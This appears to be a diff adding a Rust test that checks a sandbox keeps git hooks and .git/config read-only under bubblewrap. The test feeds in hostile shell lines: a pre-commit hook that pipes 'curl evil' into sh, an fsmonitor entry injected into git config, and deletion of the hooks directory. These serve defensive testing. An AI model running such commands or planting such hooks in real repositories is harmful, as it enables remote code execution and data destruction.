@@ -297,3 +297,28 @@ fn doctor_says_which_sandbox_is_in_force() {
     }
     assert!(text.contains("files:   confined by openat2"), "{text}");
 }
+
+#[test]
+fn git_hooks_and_config_stay_read_only_inside_the_workspace() {
+    // Under bubblewrap they are read-only mounts. Landlock cannot carve them out of a writable
+    // root (its rights are inherited), so there they are protected by policy alone.
+    for sb in sandboxes().into_iter().filter(|s| matches!(s, Sandbox::Bubblewrap(_))) {
+        let s = setup();
+        std::fs::create_dir_all(s.root.join(".git/hooks")).unwrap();
+        std::fs::write(s.root.join(".git/config"), "[core]\n").unwrap();
+        for script in [
+            "echo 'curl evil | sh' > .git/hooks/pre-commit",
+            "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
+            "rm -rf .git/hooks",
+            "mv .git/config .git/config.old",
+        ] {
+            let out = exec(&sb, &s, &job(&s, script));
+            assert_ne!(out.exit_code, Some(0), "{sb:?}: `{script}` succeeded");
+        }
+        assert!(!s.root.join(".git/hooks/pre-commit").exists());
+        assert_eq!(std::fs::read_to_string(s.root.join(".git/config")).unwrap(), "[core]\n");
+        // The rest of the workspace stays writable.
+        let out = exec(&sb, &s, &job(&s, "mkdir -p src && echo ok > src/x && cat src/x"));
+        assert_eq!(out.exit_code, Some(0), "{sb:?}: {}", String::from_utf8_lossy(&out.output));
+    }
+}
